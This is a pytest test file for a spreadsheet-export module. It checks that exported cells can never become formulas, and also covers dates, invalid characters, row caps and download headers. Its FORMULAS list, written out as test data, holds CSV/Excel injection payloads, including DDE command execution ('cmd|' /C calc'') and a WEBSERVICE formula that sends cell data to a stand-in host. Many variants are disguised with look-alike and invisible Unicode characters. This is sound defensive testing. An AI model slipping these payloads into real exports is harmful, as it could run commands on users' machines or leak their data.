"""No cell of an export becomes a formula, whatever a resident typed."""

from __future__ import annotations

import datetime as dt
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from heli.core.export import TooManyRows, download, safe_cell, safe_text, workbook

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "|cmd",
    "%0A=1",
    '=HYPERLINK("http://x","y")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://x/"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@IMPORTXML(A1)",
    "＝1+1",  # full-width
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "｜cmd",
    "％1",
    "﹦1+1",  # small forms
    "﹢1",
    "﹣1",
    "﹫A1",
    "⁼1",  # raised and lowered
    "₌1",
    "⁺1",
    "−1+1",  # the minus sign itself
    " =1+1",  # blanks in front
    "\u3000=1+1",
    "\u00a0=1+1",
    "\u2003=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\x0b=1+1",
    "\u200b=1+1",  # zero width
    "\u200c=1",
    "\u200d=1",
    "\ufeff=1+1",
    "\u2060=1+1",
    "\u00ad=1",
    "\u202e=1+1",  # direction marks
    "\u200f=1",
    "\u2066=1",
    "\u2028=1+1",  # line and paragraph separators
    "\u2029=1",
    "\u200b\u2028=1",
    "\ufe0f=1",  # variation selector
    "\u034f=1",  # combining joiner
    " \t\u200b\u3000＝1+1",
    "\x00=1+1",
    "\x1f=1",
]
HARMLESS = ["", "王桂兰", "a=b", "3-5 号楼", "1+1", "'=1", "（=）", "·", "毓璜顶东路 8 号", "10%", "😀"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_are_made_text(text: str) -> None:
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays(text: str) -> None:
    assert safe_text(text) == text


def test_the_table_is_long_enough() -> None:
    assert len(set(FORMULAS)) >= 30


def sheet_of(content: bytes) -> Any:
    return load_workbook(io.BytesIO(content), data_only=False).worksheets[0]


def test_in_the_file_every_cell_is_text() -> None:
    content = workbook("清单", [("=header", lambda r: r), ("n", lambda _r: 5)], FORMULAS, cap=100, notes=["=note"])
    sheet = sheet_of(content)
    assert sheet.max_row == len(FORMULAS) + 1
    for row in sheet.iter_rows():
        assert row[0].data_type in {"s", "inlineStr"}
        assert str(row[0].value).startswith("'")
    assert sheet["B2"].value == 5
    note = load_workbook(io.BytesIO(content)).worksheets[1]["A1"]
    assert note.data_type == "s" and note.value == "'=note"


def test_numbers_days_and_moments_keep_their_kind() -> None:
    at = dt.datetime(2026, 3, 1, 20, 30, tzinfo=dt.UTC)
    assert safe_cell(at) == dt.datetime(2026, 3, 2, 4, 30)  # Shanghai
    assert safe_cell(dt.date(2026, 3, 2)) == dt.date(2026, 3, 2)
    assert [safe_cell(v) for v in (True, 3, -2.5, None)] == [True, 3, -2.5, None]


def test_characters_that_xml_cannot_hold_are_left_out() -> None:
    content = workbook("x", [("h", lambda r: r)], ["a\x00b\x08c\x1f", "𠮷😀"], cap=5)
    assert [c.value for c in sheet_of(content)["A"]] == ["h", "abc", "𠮷😀"]


def test_too_many_rows_are_said_not_cut() -> None:
    assert sheet_of(workbook("x", [("h", lambda r: r)], range(3), cap=3)).max_row == 4
    with pytest.raises(TooManyRows) as caught:
        workbook("x", [("h", lambda r: r)], range(4), cap=3)
    assert caught.value.slots == {"cap": 3}


def test_a_download_is_never_shown_inline() -> None:
    response = download(b"x", "a.xlsx")
    assert response["Content-Disposition"] == 'attachment; filename="a.xlsx"'
    assert response["X-Content-Type-Options"] == "nosniff"
